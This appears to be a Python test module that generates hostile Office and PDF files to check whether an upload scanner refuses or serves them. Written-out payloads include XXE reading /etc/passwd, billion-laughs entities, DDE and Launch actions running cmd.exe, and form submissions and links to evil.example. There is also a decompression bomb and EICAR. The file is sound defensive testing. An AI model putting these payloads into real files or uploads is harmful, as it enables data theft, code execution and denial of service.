"""Documents that carry programs, reach out, or try to make their reader do so."""

import zlib
from collections.abc import Iterator

from tests.core.private_files.hostile.cases import MARK, SCRIPT, Hostile, refused, served
from tests.factories import attachments as made
from tests.factories.scanner import EICAR

_W = b'<w:document xmlns:w="w"><w:body>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def cases() -> Iterator[Hostile]:
    for kind, main in (("docx", "word/document.xml"), ("xlsx", "xl/workbook.xml"), ("pptx", "ppt/presentation.xml")):
        yield from _office(kind, main)
    yield from _old_office()
    yield from _pdf()
    yield from _served_office()


def _office(kind: str, main: str) -> Iterator[Hostile]:
    name, with_part = f"a.{kind}", lambda part, content: made.package(kind, {part: content})
    entities = {"entities": XXE, "a billion laughs": LAUGHS, "entities in UTF-16": XXE.decode().encode("utf-16")}
    for key, content in entities.items():
        for part in (main, "docProps/core.xml", "customXml/item1.xml", "x/_rels/a.xml.rels", "x/drawing.vml"):
            yield from refused(name, **{f"{key} in {part}": lambda p=part, c=content: with_part(p, c)})
    late = b"<x>" + b" " * 300_000 + b"<!DOCTYPE x></x>"
    over = b"<x>" + b" " * (256 * 1024 - 8) + b"<!DOCTYPE x></x>"
    yield from refused(
        name, **{"entities far inside": lambda: with_part(main, late), "across pieces": lambda: with_part(main, over)}
    )
    for what in ("attachedTemplate", "oleObject", "frame", "image", "subDocument", "control", "externalLink", "package"):
        yield from refused(name, **{f"{what} from elsewhere": lambda w=what: with_part("x/_rels/s.xml.rels", _external(w))})
    for single in (b"'", b'"'):
        relation = (
            b"<Relationship\n Target="
            + single
            + b"http://e.example/x"
            + single
            + b"\tTargetMode ="
            + single
            + b"External"
            + single
        )
        relation += b" Type=" + single + b"a/attachedTemplate" + single + b"/>"
        yield from refused(name, **{f"template in {single.decode()}": lambda r=relation: with_part("_rels/x.rels", r)})
    for types in ("ms-office.vbaProject", "ms-word.document.macroEnabled.main+xml", "ms-excel.macrosheet+xml"):
        listed = f'<Override PartName="/x" ContentType="application/vnd.{types}"/>'
        yield from refused(name, **{f"macros by the type {types}": lambda t=listed: made.package(kind, types=t)})
    for part in ("word/vbaProject.bin", "xl/VBAPROJECT.BIN", "ppt/vbaData.xml"):
        yield from refused(name, **{f"macros in {part}": lambda p=part: with_part(p, b"x")})
    yield from refused(name, **{"in an envelope with a password": lambda: made.compound("EncryptionInfo", "EncryptedPackage")})
    other = {"docx": "xlsx", "xlsx": "pptx", "pptx": "docx"}[kind]
    yield from refused(name, **{f"a {other}": lambda: made.package(other)})


def _external(what: str) -> bytes:
    relation = f'<Relationship Id="r" Type="{_TYPES}/{what}" Target="http://evil.example/x" TargetMode="External"/>'
    return f"<Relationships>{relation}</Relationships>".encode()


def _old_office() -> Iterator[Hostile]:
    streams = {"doc": "WordDocument", "xls": "Workbook", "ppt": "PowerPoint Document"}
    for kind, stream in streams.items():
        other = streams[{"doc": "xls", "xls": "ppt", "ppt": "doc"}[kind]]
        yield from refused(
            f"a.{kind}",
            **{
                "macros": lambda s=stream: made.compound(s, "_VBA_PROJECT"),
                "macros of Excel": lambda s=stream: made.compound(s, "_VBA_PROJECT_CUR"),
                "macros in a folder": lambda s=stream: made.compound(s, "VBA"),
                "a password": lambda: made.compound("EncryptionInfo", "EncryptedPackage"),
                "an installer": lambda: made.compound("MsiTables"),
                "another program's": lambda o=other: made.compound(o),
                "only a head": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
                "a page behind a head": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + SCRIPT * 100,
            },
        )


def _served_office() -> Iterator[Hostile]:
    """Nothing that starts by itself in a program of today; a scanner looks at them where one is set."""
    dde = b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>'
    simple = b'<w:fldSimple w:instr=" DDE excel x "/>'
    yield from refused("a.docx", **{"DDE field": lambda: made.package("docx", {"word/document.xml": _W + dde})})
    yield from refused("a.docx", **{"DDE field in short": lambda: made.package("docx", {"word/footer1.xml": simple})})
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield from refused("a.xlsx", **{"DDE link": lambda: made.package("xlsx", {"xl/externalLinks/externalLink1.xml": link})})
    formula = b"<sheetData><c><f>cmd|'/c calc'!A1</f></c></sheetData>"
    yield from served("a.xlsx", formula=lambda: made.package("xlsx", {"xl/worksheets/sheet1.xml": formula}))
    yield from served(
        "a.docx",
        **{
            "virus for testing inside": lambda: made.package("docx", {"word/media/a.bin": EICAR}),
            "archive inside": lambda: made.package("docx", {"word/embeddings/a.zip": made.archive({"a.exe": b"MZ"})}),
            "object inside": lambda: made.package("docx", {"word/embeddings/oleObject1.bin": made.compound("\x01Ole10Native")}),
            "page in a text": lambda: made.package("docx", {"word/document.xml": b"<w:t>" + SCRIPT + b"</w:t>"}),
            "link to press": lambda: made.package("docx", {"word/_rels/document.xml.rels": _external("hyperlink")}),
        },
    )


def _pdf() -> Iterator[Hostile]:
    actions = {
        "script at opening": b"<< /OpenAction << /S /JavaScript /JS (app.alert\\('" + MARK + b"'\\)) >> >>",
        "launch": b"<< /OpenAction << /S /Launch /F (cmd.exe) /Win << /P (/c calc) >> >> >>",
        "file inside": b"<< /Type /EmbeddedFile /Subtype /application#2Fx-msdownload >> stream\nMZ\nendstream",
        "sends a form": b"<< /S /SubmitForm /F (http://evil.example/) >>",
        "opens elsewhere": b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>",
        "an address": b"<< /S /URI /URI (javascript:alert(1)) >>",
        "entities in XFA": b"<< /XFA 9 0 R >> stream\n" + XXE + b"\nendstream",
        "page of the web": SCRIPT,
        "pages in a ring": b"2 0 obj << /Type /Pages /Kids [2 0 R] /Count 99999999 >> endobj",
        "virus for testing": EICAR,
    }
    for key, body in actions.items():
        yield from served("a.pdf", **{key: lambda b=body: made.pdf(b)})
    squeezed = zlib.compress(bytes(100 * 1024 * 1024), 9)
    bomb = b"9 0 obj << /Filter /FlateDecode /Length 1 >> stream\n" + squeezed + b"\nendstream endobj"
    yield from served("a.pdf", **{"stream that unpacks to 100 MB": lambda: made.pdf(bomb)})
    yield from served(
        "a.pdf", **{"10,000 objects": lambda: made.pdf(b"".join(b"%d 0 obj null endobj\n" % n for n in range(10_000)))}
    )
    whole = made.pdf()
    yield from refused(
        "a.pdf",
        **{
            "archive at the end": lambda: whole + made.package("docx"),
            "archive with a remark": lambda: _commented(whole),
            "page before it": lambda: SCRIPT + whole,
            "space before it": b" " + whole,
            "line before it": b"\n" + whole,
            "mark of order before it": b"\xef\xbb\xbf" + whole,
            "program before it": lambda: b"MZ" + bytes(300) + whole,
            "no end": whole[:-7],
            "end far inside": lambda: whole + bytes(20_000),
            "only a head": b"%PDF-1.7\n",
            "version 9": b"%PDF-9.9" + whole[8:],
            "head of PostScript": b"%!PS-Adobe-3.0 " + whole,
            "virus for testing, plain": EICAR,
        },
    )


def _commented(whole: bytes) -> bytes:
    """A PDF whose end mark is the remark of an archive."""
    archive = bytearray(made.archive({"a.class": b"x"}))
    remark = b"\n%%EOF\n"
    archive[-2:] = len(remark).to_bytes(2, "little")
    return whole + bytes(archive) + remark
